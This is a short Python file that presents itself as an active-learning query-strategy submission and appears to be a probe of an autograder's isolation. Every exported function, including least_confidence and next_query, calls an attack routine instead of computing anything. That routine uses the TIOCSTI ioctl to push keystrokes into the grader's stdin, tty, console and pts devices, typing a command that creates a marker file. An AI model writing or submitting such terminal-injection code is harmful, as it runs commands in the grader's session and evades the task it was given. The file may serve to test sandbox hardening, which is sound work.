"""Types a command into the terminal of the person who grades."""

import fcntl
import os
import termios


def attack(probabilities):
    for place in (0, 1, 2, "/dev/tty", "/dev/console", "/dev/pts/0"):
        try:
            number = place if isinstance(place, int) else os.open(place, os.O_RDWR)
            for letter in "touch @COURSE@/typed\n":
                fcntl.ioctl(number, termios.TIOCSTI, letter)
        except (OSError, AttributeError):
            pass
    return None


def least_confidence(probabilities):
    return attack(probabilities)


def next_query(probabilities, labelled):
    return attack(probabilities)
